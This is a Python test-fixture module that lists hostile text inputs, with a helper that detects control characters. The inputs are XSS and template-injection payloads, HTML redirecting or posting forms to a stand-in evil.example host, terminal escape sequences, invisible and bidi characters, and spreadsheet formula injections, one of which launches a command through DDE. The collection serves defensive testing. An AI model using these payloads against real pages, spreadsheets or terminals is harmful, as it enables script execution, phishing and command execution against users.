"""Text that attacks whoever shows it: an own list, which needs no material, and how to tell that it won."""

import unicodedata

#: Sets ``window.__alive`` wherever it runs.
_RUN = "window.__alive=1"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><sCrIpT\n>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"--></script><!--<script>{_RUN}//",
    f"<!--<script>{_RUN}</script>",
    f"<!-- --!><img src=x onerror={_RUN}>",
    f"]]><![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=`x`onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onfocus="{_RUN}" autofocus tabindex="0',
    f"' onmouseover='{_RUN}",
    f"x onpointerenter={_RUN} y=",
    f"</title></style></textarea></noscript><svg/onload={_RUN}>",
    f"</template><img src=x onerror={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<math href='javascript:{_RUN}'>click</math>",
    f"<details open ontoggle={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN.removeprefix('window.')}</script>'></iframe>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//https://acme.example",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<form action='https://evil.example/'><input name=a autofocus><button>go</button></form>",
    "</style><style>@import 'https://evil.example/a.css';*{display:none!important}",
    "</p></div></article></main></body></html><h1>another page</h1>",
    "&lt;script&gt;window.__alive=1&lt;/script&gt;",
    "&#60;script&#62;window.__alive=1&#60;/script&#62;",
    "+ADw-script+AD4-window.__alive=1+ADw-/script+AD4-",
    "\\u003cscript\\u003ewindow.__alive=1\\u003c/script\\u003e",
    f"'+({_RUN})+'",
    f'"+({_RUN})+"',
    f"`${{{_RUN}}}`",
    f"\\'; {_RUN}; //",
    f"\u2028{_RUN}\u2029",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}<%= {_RUN} %>",
    "$$m$$ $\\href{javascript:window.__alive=1}{x}$ _{^",
    "__proto__",
    "constructor",
    "toString",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[Hgone",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGVsbG8=\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31mC1\x9d0;t\x9c\x90",
    "\x07bell\x08\x7f",
    "over\rwritten",
    "tab\tvertical\x0bform\x0cfeed",
    "\x00null\x00",
    "\u202eright to left\u202c",
    "\u2066isolate\u2069\u200f\u200e\u061c",
    "\ufeffmark\u200b\u2060\u00ad",
    "\U000e0041\U000e0042tags",
    "[red]rich[/red] [link=https://evil.example]x[/link]",
]
FORMULAS = [
    "=1+1",
    "+1+1|x",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=HYPERLINK("http://x")',
]
LONG = "<b>" + "ы" * 100_000

#: Controls, format characters such as those of direction, surrogates, private ones, line and paragraph ends.
KINDS = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}

TEXTS = [*MARKUP, *CONTROLS, *FORMULAS]


def controls_in(text):
    """The characters that steer a terminal or hide in it; of controls, the newline alone is none."""
    return sorted(c for c in set(text) - {"\n"} if unicodedata.category(c) in KINDS)
